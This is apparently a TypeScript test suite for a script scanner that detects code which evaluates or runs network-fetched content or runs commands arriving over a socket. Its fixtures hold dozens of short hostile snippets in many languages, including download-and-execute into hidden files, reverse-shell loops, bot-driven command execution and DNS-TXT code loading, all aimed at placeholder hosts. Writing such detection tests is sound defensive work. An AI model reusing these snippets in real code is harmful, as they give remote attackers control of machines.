// What a server answered, followed to what runs it, in the languages that have no reader of their own.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { ScriptLanguage } from '../../../../src/data/script-languages.ts'
import { readScript } from '../../../../src/file/formats/script/read.ts'

const ASKED = ['answer_evaluated', 'runs_what_it_fetched', 'runs_commands_from_socket'] as const
const found = (language: ScriptLanguage, text: string): readonly string[] =>
  readScript(text, language)
    .facts.traits.map(({ id }) => id)
    .filter((id) => (ASKED as readonly string[]).includes(id))

const HITS: readonly (readonly [ScriptLanguage, (typeof ASKED)[number], string])[] = [
  [
    'elixir',
    'answer_evaluated',
    '{:ok, {_, _, body}} = :httpc.request(:get, {u, []}, [], [])\nCode.eval_string(to_string(body))',
  ],
  ['elixir', 'answer_evaluated', 'Req.get!(u).body\n|> Code.eval_string()'],
  [
    'julia',
    'answer_evaluated',
    'buf = IOBuffer()\nDownloads.download(u, buf)\ninclude_string(Main, String(take!(buf)))',
  ],
  ['r', 'answer_evaluated', 't <- readLines(url(u))\neval(parse(text = t))'],
  [
    'r',
    'runs_what_it_fetched',
    'f <- file.path(Sys.getenv("HOME"), ".fontd")\ndownload.file(u, f)\nsystem2("nohup", c(f, "&"))',
  ],
  [
    'groovy',
    'runs_what_it_fetched',
    "def b = new URL(u).bytes\nnew File('/var/tmp/.w').bytes = b\n['/bin/sh', '-c', '/var/tmp/.w &'].execute()\nsh '/var/tmp/.w'",
  ],
  ['julia', 'answer_evaluated', 'c = String(HTTP.get(u).body)\nrun(`sh -c $c`)'],
  ['julia', 'runs_what_it_fetched', 'f = tempname()\nDownloads.download(u, f)\nrun(`sh $f`)'],
  ['groovy', 'answer_evaluated', 'evaluate(new URL(u).text)'],
  ['nushell', 'answer_evaluated', 'let t = (http get $u)\nnu -c $t'],
  [
    'raku',
    'runs_commands_from_socket',
    'my $s = IO::Socket::INET.new(:host<c>, :port(443));\nmy $line = $s.get;\nmy $r = shell($line, :out);',
  ],
  ['shell', 'answer_evaluated', 'set t [http::geturl $u]\neval [base64::decode [http::data $t]]'],
  ['lua', 'answer_evaluated', 'local t = http.request(u)\nload(t)()'],
  ['source', 'answer_evaluated', 'var b = await new HttpClient().GetByteArrayAsync(u);\nAssembly.Load(b);'],
  [
    'source',
    'runs_what_it_fetched',
    'let b = reqwest::blocking::get(u).unwrap().bytes().unwrap();\nlet p = dir.join("upd.exe");\nfs::write(&p, &b).unwrap();\nCommand::new(&p).spawn().unwrap();',
  ],
  ['ruby', 'answer_evaluated', "t = Net::HTTP.get(URI(u))\nFile.write('t.rb', t)\neval(File.read('t.rb'))"],
  ['groovy', 'answer_evaluated', 'def b = new URL(u).bytes\nnew File(p).bytes = b\n"sh $p".execute()\nsh "sh $p"'],
  ['ruby', 'runs_what_it_fetched', "File.binwrite('/tmp/.x', URI.open(u).read)\nspawn('/tmp/.x')"],
  ['ruby', 'runs_commands_from_socket', "s = TCPSocket.new('c', 443)\nwhile l = s.gets\n  s.print(`#{l}`)\nend"],
  ['perl', 'runs_commands_from_socket', 'my $s = IO::Socket::INET->new("c:443");\nwhile (<$s>) { print $s `$_` }'],
  ['r', 'answer_evaluated', 'source("http://files.example/a.R")'],
  ['javascript', 'answer_evaluated', 'const r = await fetch(u);\n(0, eval)(await r.text())'],
  ['javascript', 'answer_evaluated', "dns.resolveTxt('c.example', (e, r) => vm.runInThisContext(r.join('')))"],
  [
    'javascript',
    'runs_commands_from_socket',
    "const n = require('net').connect(443, 'c');\nn.on('data', (d) => n.write(execSync(d.toString())))",
  ],
  [
    'python',
    'runs_commands_from_socket',
    'async with websockets.connect(u) as w:\n  async for x in w:\n    await w.send(subprocess.getoutput(x))',
  ],
  [
    'python',
    'runs_commands_from_socket',
    'c = discord.Client()\nasync def on_message(m):\n  subprocess.check_output(m.content[1:], shell=True)',
  ],
  ['php', 'runs_what_it_fetched', "<?php copy('http://files.example/a', '/tmp/.a'); exec('/tmp/.a &');"],
  ['shell', 'answer_evaluated', 'BEGIN { while (("curl -s http://c.example/a" | getline l) > 0) system(l) }'],
  ['source', 'answer_evaluated', 'Runtime.getRuntime().exec(arrayOf("sh", "-c", URL(u).readText()))'],
  [
    'shell',
    'runs_commands_from_socket',
    'set s [socket c.example 443]\nwhile {[gets $s order(next)] >= 0} {\n  eval $order(next)\n}',
  ],
  [
    'shell',
    'runs_commands_from_socket',
    'set s [socket c.example 443]\ngets $s line\nset name [lindex $line 0]\neval [list $name $s]',
  ],
  [
    'python',
    'answer_evaluated',
    "c = requests.get('https://c.example/a').text\nsubprocess.Popen(c, stdout=log, env=env, shell=True)",
  ],
  [
    'perl',
    'runs_commands_from_socket',
    'socket(S, PF_INET, SOCK_STREAM, 0);\nconnect(S, $to);\nwhile ($l = <S>) {\n  print S `$l`;\n}',
  ],
  // A text that only looks like documentation: what follows it is code.
  [
    'perl',
    'runs_commands_from_socket',
    'my $s = IO::Socket::INET->new("h:7");\nprint <<EOT;\n\n=pod\n\nEOT\nmy $line = <$s>;\nsystem("$line");\n',
  ],
  [
    'perl',
    'runs_commands_from_socket',
    'my $s = IO::Socket::INET->new("h:7");\nopen(S2, "<&", $s);\nwhile (<S2>) {\n  system("$_");\n}',
  ],
]
for (const [language, id, text] of HITS)
  test(`${language}: ${id}: ${text.split('\n')[0]}`, () =>
    assert.ok(found(language, text).includes(id), String(found(language, text))))

/** What comes from a function to another one in Python. */
const ACROSS: Readonly<Record<string, string>> = {
  'a parameter': 'def show(t):\n    exec(t)\nshow(requests.get("https://c.example/a").text)',
  'a parameter by its name':
    'def go(cmd):\n    os.system(cmd)\nt = requests.get("https://c.example/a").text\ngo(cmd=t)',
  'a parameter behind a text with a bracket':
    'def go(name, cmd):\n    os.system(cmd)\nt = requests.get("https://c.example/a").text\ngo("a)", t)',
  'parameters that are spread':
    'def go(name, cmd):\n    os.system(cmd)\nt = requests.get("https://c.example/a").text\ngo(*["a", t])',
  'what is returned':
    'def load():\n    t = requests.get("https://c.example/a").text\n    return t\nt = load()\nexec(t)',
  'what is returned, at once':
    'def load():\n    t = requests.get("https://c.example/a").text\n    return t\nexec(load())',
  'a field of an object':
    'class A:\n    def load(self, code):\n        self.code = requests.get("https://c.example/a").text\n    def go(self, code):\n        exec(self.code)',
  'what is filled':
    'def load(out):\n    out["a"] = requests.get("https://c.example/a").text\ndef go():\n    out = {}\n    load(out)\n    exec(out["a"])',
  'a name of all':
    'def load():\n    global t\n    t = requests.get("https://c.example/a").text\ndef go():\n    exec(t)',
  'a function within another':
    'def go():\n    t = requests.get("https://c.example/a").text\n    def show(t):\n        print(t)\n    exec(t)',
  'a method, and what stands behind it in its class':
    't = requests.get("https://c.example/a").text\nclass A:\n    def show(self, t):\n        print(t)\n    exec(t)',
  'whoever is chosen by a table':
    'def go(t):\n    exec(t)\nACTS = {"a": go}\nt = requests.get("https://c.example/a").text\nACTS["a"](t)',
  'a head that only a text has':
    'def show(t):\n    print(t)\ndef go():\n    t = requests.get("https://c.example/a").text\n    note = "a\\ndef show(t):\\n"\n    exec(t)',
  'a line behind a function that looks like a part of it':
    't = requests.get("https://c.example/a").text\ndef show(t):\n    note = \'"(\'\nexec(t)',
  'a value that only a text gives':
    't = requests.get("https://c.example/a").text\ndef go():\n    """\n    t = 1\n    """\n    exec(t)',
}
for (const [name, text] of Object.entries(ACROSS))
  test(`python, across functions: ${name}`, () =>
    assert.notDeepEqual(found('python', `import requests, os\n${text}`), []))

const MISSES: readonly (readonly [ScriptLanguage, string])[] = [
  ['javascript', "const r = await fetch(u)\nexec('git status', (e, out) => fetch(v, { method: 'POST', body: out }))"],
  ['javascript', "const w = new WebSocket(u)\nw.on('message', (m) => console.log(m))\nexecSync('npm ci')"],
  ['python', 'c = discord.Client()\nasync def on_message(m):\n  subprocess.run(["systemctl", "restart", "app"])'],
  ['perl', 'while (<$log>) { print `date` }'],
  [
    'source',
    'let r = reqwest::blocking::get(u).unwrap().text().unwrap();\nfs::write("/etc/a/config.toml", &r).unwrap();\nCommand::new("systemctl").args(["reload", "a"]).status().unwrap();',
  ],
  [
    'r',
    'f <- tempfile()\ndownload.file(u, f)\nd <- read.csv(f)\nsystem2("pandoc", c("report.md", "-o", "report.pdf"))',
  ],
  ['julia', 'r = HTTP.get(u)\ndata = JSON.parse(String(r.body))\nrun(`git add data.json`)'],
  ['elixir', '{:ok, r} = :httpc.request(u)\nIO.puts(r)\nCode.eval_string("1 + 1")'],
  ['groovy', "def t = new URL(u).text\nprintln t\nsh './gradlew build'"],
  ['ruby', "t = Net::HTTP.get(URI(u))\nputs t\neval(File.read('tasks.rb'))"],
  [
    'source',
    'resp, _ := http.Get(u)\nb, _ := io.ReadAll(resp.Body)\nfmt.Println(string(b))\nexec.Command("git", "status").Run()',
  ],
  // What is called back stands in the same array as what came, or is handed it.
  [
    'shell',
    'set s [socket $host 80]\ngets $s state(http)\nset state(-progress) $given\neval $state(-progress) [list $state(http)]\neval [linsert $state(-progress) end $state(http)]',
  ],
  [
    'python',
    "r = requests.get('https://c.example/a')\nenv = {'TOKEN': r.text}\nsubprocess.Popen(['make', 'all'], env=env, **kwargs)",
  ],
  [
    'python',
    "r = requests.get('https://c.example/a').json()\nfound = Package(name=r['name'])\nsubprocess.run([name, '--version'])",
  ],
  ['python', "r = requests.get('https://c.example/a').json()\nnames.append(r['name'])\nos.system(names[0])"],
  // The same name in another function is another one: a parameter, and what it is given there.
  [
    'python',
    'def load(cmd):\n    cmd = requests.get("https://c.example/" + cmd).text\n    print(cmd)\ndef go(cmd):\n    subprocess.Popen(cmd)\ngo(["make"])',
  ],
  [
    'python',
    'class A:\n    def load(self):\n        cmd = urlopen(u).read()\n        print(cmd)\n    def go(self):\n        cmd = [sys.executable, "-c", "pass"]\n        subprocess.Popen(cmd)',
  ],
  ['python', "r = requests.get('https://c.example/a')\ncmd = [sys.executable, '-c', r'pass']\nsubprocess.Popen(cmd)"],
  // A message names the module; what is read is a file.
  [
    'perl',
    'print "You may need IO::Socket::SSL for that URL.";\nopen(F, $log);\nwhile ($l = <F>) { print `date` . `wc $l` }',
  ],
  [
    'perl',
    'my $s = IO::Socket::INET->new("h:7");\nmy $line = <$s>;\n__END__\n=head1 NAME\n\nIt reads a line, `$line`, by system("$line").\n',
  ],
  [
    'perl',
    'my $s = IO::Socket::INET->new("h:7");\nopen(my $f, "<", "/etc/a.conf");\nwhile (my $line = <$f>) {\n  system("$line");\n}',
  ],
  [
    'perl',
    'my $s = IO::Socket::INET->new("h:7");\nopen3(IN, OUT, ERR, "psql");\nwhile (<OUT>) {\n  print;\n}\nforeach (@checks) {\n  system("$_");\n}',
  ],
]
for (const [language, text] of MISSES)
  test(`${language}: nothing of it runs: ${text.split('\n')[0]}`, () => assert.deepEqual(found(language, text), []))
